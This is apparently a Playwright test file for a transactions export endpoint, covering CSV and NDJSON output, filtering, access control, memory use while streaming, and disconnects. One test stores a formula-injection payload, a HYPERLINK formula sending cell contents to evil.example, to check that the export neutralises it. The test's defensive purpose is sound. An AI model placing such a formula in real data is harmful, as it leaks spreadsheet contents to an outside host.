// The export of transactions over HTTP: equal to the list, safe in a spreadsheet, and streamed.
import { setTimeout as sleep } from "node:timers/promises";
import Database from "better-sqlite3";
import pg from "pg";
import { expect } from "playwright/test";
import { type Api, type ApiError, createApi } from "../api";
import { test } from "../fixtures";
import { startServer, type TestServer } from "../server";
import { newMember, newOrganization, type Person, receive, succeeded, type TransactionBody } from "./people";
import { recordFields } from "./records";

const path = "/v1/transactions/export";
/** Raise it to measure by hand; see the memory test. */
const manyRows = Number(process.env.EXPORT_ROWS ?? 10_000);
/** MiB that the memory may grow beyond the rows' own size: garbage that is not yet collected. */
const slackMiB = 220;

/** Parses CSV as RFC 4180 defines it: one record per line, keyed by the header's names. */
function parseCsv(text: string): Record<string, string>[] {
  const lines: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
    lines.at(-1)?.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "\r\n") lines.push([]);
    if (pattern.lastIndex === text.length) break;
  }
  const [header = [], ...rows] = lines.slice(0, -1);
  return rows.map((row) => Object.fromEntries(header.map((name, at) => [name, row[at] ?? ""])));
}

type Row = Record<string, unknown>;

async function list(api: Api, token: string, query = ""): Promise<Row[]> {
  return succeeded(await api<{ data: Row[] }>("GET", `/v1/transactions?limit=100${query}`, { token })).data;
}

/** The expected CSV row for a record of the list. */
function flat(record: Row): Record<string, string> {
  const cells: [string, unknown][] = Object.entries(record).flatMap(([name, value]): [string, unknown][] => {
    const parts = { payment_method: ["type", "brand", "last4", "exp_month", "exp_year"], failure: ["code", "message"] };
    const names = name === "customer" ? recordFields.customer : parts[name as keyof typeof parts];
    if (!names) return [[name, value]];
    const noMetadata = name === "customer" ? { metadata: {} } : {};
    return names.map((part) => [`${name}_${part}`, ((value ?? noMetadata) as Row)[part] ?? null]);
  });
  const textOf = (value: unknown) =>
    value === null ? "" : typeof value === "object" ? JSON.stringify(value) : String(value);
  return Object.fromEntries(cells.map(([name, value]) => [name, textOf(value)]));
}

test("returns the same records as the list, with the same filters, as CSV and as JSON lines", async ({ api }) => {
  const person = await newMember(api);
  await receive(api, person, 100, {
    metadata: { order: "7" },
    customer: { name: "Ada, Lovelace", email: "a@b.example" },
  });
  await receive(api, person, 250, { description: 'a "quoted"\r\ntext', reference: "R 1", currency: "KWD" });
  const { transaction_id } = await receive(api, person, 300, { customer: { metadata: { tier: "gold" } } });
  const refund = { type: "refund", parent_transaction_id: transaction_id, amount: 1, reason: "duplicate" };
  succeeded(await api("POST", "/v1/transactions", { token: person.token, body: refund }));

  for (const query of [
    "",
    "&type=refund",
    "&metadata[order]=7",
    "&currency=KWD",
    "&q=ada",
    "&amount_min=200&amount_max=260",
  ]) {
    const { token } = person;
    const wanted = await list(api, token, query);
    expect(wanted.length).toBeGreaterThan(0);
    const csv = await api("GET", `${path}?format=csv${query}`, { token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("cache-control")).toBe("no-store");
    expect(csv.headers.get("content-disposition")).toMatch(/^attachment; filename="transactions-[\d-]{10}\.csv"$/);
    expect(parseCsv(csv.text)).toEqual(wanted.map((row) => expect.objectContaining(flat(row))));
    const lines = await api("GET", `${path}?format=ndjson${query}`, { token });
    expect(lines.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(
      lines.text
        .split("\n")
        .slice(0, -1)
        .map((line) => JSON.parse(line)),
    ).toEqual(wanted);
  }
  const none = await api("GET", `${path}?amount_min=5000`, { token: person.token });
  expect(parseCsv(none.text)).toEqual([]);
  expect(none.text).toContain("transaction_id,account_id,type,status,direction,amount,currency");
});

test("contains no text that a spreadsheet reads as a formula", async ({ api }) => {
  const person = await newMember(api);
  const attack = '=HYPERLINK("http://evil.example?"&A1,"x")';
  await receive(api, person, 100, {
    description: attack,
    reference: "+1",
    customer: { name: "@SUM(1)", reference: "-2" },
  });
  const { text } = await api("GET", path, { token: person.token });
  const [row] = parseCsv(text);
  expect(row).toMatchObject({
    description: `'${attack}`,
    reference: "'+1",
    customer_name: "'@SUM(1)",
    customer_reference: "'-2",
  });
  expect(row).toMatchObject({ amount: "100", net_amount: "100" });
});

test("shows each caller the same records as the list, and refuses the callers that the list refuses", async ({
  api,
  server,
}) => {
  const [person, other, stranger] = [await newMember(api), await newMember(api), await newOrganization(server, api)];
  const { transaction_id: id } = await receive(api, person, 100);
  const idsOf = async ({ token }: Person, query: string) =>
    parseCsv((await api("GET", `${path}?${query}`, { token })).text).map((row) => row.transaction_id);
  expect(await idsOf(person, `transaction_id=${id}`)).toEqual([id]);
  expect(await idsOf(other, `transaction_id=${id}`)).toEqual([]);
  expect(await idsOf(stranger, `transaction_id=${id}`)).toEqual([]);
  expect(await idsOf(stranger, "")).not.toContain(id);

  const codeOf = async (query: string, token?: string) => {
    const reply = await api<ApiError>("GET", `${path}?${query}`, token === undefined ? {} : { token });
    return [reply.status, reply.body.error_code];
  };
  expect(await codeOf("", undefined)).toEqual([401, "unauthorized"]);
  expect(await codeOf(`account_id=${person.accountId}`, stranger.token)).toEqual([400, "account_not_found"]);
  expect(await codeOf("expected_count=2", person.token)).toEqual([400, "selection_changed"]);
  for (const query of ["limit=5", "cursor=x", "include_total=true", "format=pdf", "color=red", "status=odd"]) {
    expect(await codeOf(query, person.token)).toEqual([400, "invalid_request"]);
  }
  expect((await api("POST", path, { token: person.token, body: {} })).status).toBe(405);
});

test("answers HEAD with the status of a GET and no body", async ({ api }) => {
  const person = await newMember(api);
  await receive(api, person, 100);
  const head = async (query: string) => api("HEAD", `${path}?${query}`, { token: person.token });
  expect(await head("expected_count=1")).toMatchObject({ status: 200, text: "" });
  expect(await head("expected_count=2")).toMatchObject({ status: 400, text: "" });
});

test("is described as a file in the OpenAPI document", async ({ api }) => {
  const { body } = await api<{
    paths: Record<string, Record<string, { tags: string[]; responses: Record<string, Row> }>>;
  }>("GET", "/v1/openapi.json");
  const described = body.paths[path]?.get;
  expect(described).toMatchObject({ tags: ["Transactions"], "x-extension": true });
  expect(Object.keys(described?.responses["200"]?.content ?? {})).toEqual(["text/csv", "application/x-ndjson"]);
});

test("is not reachable as a page procedure", async ({ api, server }) => {
  const answer = await fetch(`${server.url}/api/trpc/transactions.export?input=%7B%7D`);
  expect([answer.status, (await answer.text()).includes("unknown_path")]).toEqual([404, true]);
  expect((await api("GET", "/dashboard/transactions/export")).status).toBe(401);
});

/** Copies the person's only transaction, whatever its columns, until there are `count`, each a second older. */
async function multiply(server: TestServer, { accountId }: Person, count: number): Promise<void> {
  const copies = (names: string[], numbers: string, digits: string) => {
    const values = names.map((name) =>
      name === "id" ? `'txn_' || ${digits}` : name === "created_at" ? "t.created_at - n * 1000" : `t.${name}`,
    );
    return `insert into transactions (${names.join(", ")}) select ${values.join(", ")}
      from transactions t, ${numbers} as numbers where t.account_id = '${accountId}'`;
  };
  const allColumns = "select * from transactions limit 0";
  if (server.databaseUrl.startsWith("file:")) {
    const database = new Database(server.databaseUrl.slice("file:".length));
    const names = database
      .prepare(allColumns)
      .columns()
      .map(({ name }) => name);
    const numbers = `(with recursive counted(n) as (select 1 union all select n + 1 from counted where n < ${count}) select n from counted)`;
    database.exec(copies(names, numbers, "printf('%026d', n)"));
    database.close();
    return;
  }
  const client = new pg.Client({ connectionString: server.databaseUrl });
  await client.connect();
  try {
    const names = (await client.query(allColumns)).fields.map(({ name }) => name);
    await client.query(copies(names, `(select generate_series(1, ${count}) as n)`, "lpad(n::text, 26, '0')"));
  } finally {
    await client.end();
  }
}

/** Resident memory of the process in MiB. */
const memoryOf = (server: TestServer): number => server.memory() / (1024 * 1024);

test.describe("with many rows", () => {
  test.setTimeout(600_000);
  let server: TestServer;
  let person: Person;
  const open = (signal?: AbortSignal) =>
    fetch(`${server.url}${path}`, {
      headers: { Authorization: `Bearer ${person.token}` },
      ...(signal ? { signal } : {}),
    });

  test.beforeAll(async ({ engine }) => {
    test.setTimeout(600_000);
    server = await startServer({ engine });
    const api = createApi(server.url);
    person = await newMember(api);
    // Few rows with much text fill memory as fast as many, and take less time.
    const notes = Array.from({ length: 45 }, (_, i) => [`note_${i}`, "x".repeat(500)]);
    await receive(api, person, 100, { metadata: Object.fromEntries(notes), description: "x".repeat(200) });
    await multiply(server, person, manyRows);
    // SQLite blocked this process: it notices only now which connections the server closed meanwhile.
    await sleep(500);
  });
  test.afterAll(() => server.stop());

  test("uses no more memory than with few rows, and is complete", async () => {
    await (
      await fetch(`${server.url}${path}?transaction_id=txn_x`, { headers: { Authorization: `Bearer ${person.token}` } })
    ).text();
    const before = memoryOf(server);
    let [lines, bytes, most] = [0, 0, 0];
    for await (const chunk of (await open()).body ?? []) {
      bytes += chunk.byteLength;
      for (const byte of chunk) if (byte === 10) lines++;
      most = Math.max(most, memoryOf(server));
    }
    expect(lines).toBe(manyRows + 2);
    const seen = `${Math.round(before)} MiB before, ${Math.round(most)} MiB at most, of ${Math.round(bytes / 2 ** 20)} MiB`;
    console.log(`export of ${manyRows} rows: ${seen}`);
    expect(most - before, seen).toBeLessThan(slackMiB);
  });

  test("stops when the reader disconnects, and the server keeps serving", async () => {
    const leave = new AbortController();
    const reader = (await open(leave.signal)).body?.getReader();
    await reader?.read();
    leave.abort();
    await expect(reader?.read()).rejects.toThrow();
    const api = createApi(server.url);
    const { body } = await api<{ data: TransactionBody[] }>("GET", "/v1/transactions?limit=1", { token: person.token });
    expect(body.data).toHaveLength(1);
    await expect.poll(() => server.logs()).not.toContain("a download was cut off");
  });

  test("is cut off, not ended properly, when the server stops midway", async () => {
    const response = await open();
    const reader = response.body?.getReader();
    await reader?.read();
    const stopped = server.restart();
    const rest = async () => {
      while (!(await reader?.read())?.done);
    };
    await expect(rest()).rejects.toThrow();
    await stopped;
  });
});
